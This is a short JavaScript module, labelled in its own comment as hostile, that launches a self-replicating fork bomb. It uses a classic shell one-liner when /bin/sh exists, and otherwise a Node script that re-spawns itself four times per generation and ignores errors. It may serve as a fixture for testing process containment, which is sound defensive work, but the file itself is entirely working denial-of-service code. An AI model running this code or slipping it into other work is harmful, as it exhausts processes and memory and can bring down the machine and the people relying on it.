/** Hostile: multiplies without end, in its own process group; in an image without a shell, by what is there. */
import { spawn } from 'node:child_process';
import { existsSync } from 'node:fs';

const SHELL = '/bin/sh';
const BOMB = `for (let i = 0; i < 4; i++)
  require('node:child_process').spawn(process.execPath, ['-e', process.env.BOMB], { stdio: 'ignore' }).on('error', () => undefined);
setInterval(() => undefined, 1000)`;

const [program, ...args] = existsSync(SHELL)
  ? [SHELL, '-c', 'bomb() { bomb | bomb & }; bomb']
  : [process.execPath, '-e', BOMB];
spawn(program, args, { stdio: 'ignore', env: { ...process.env, BOMB } }).on('error', () => undefined);
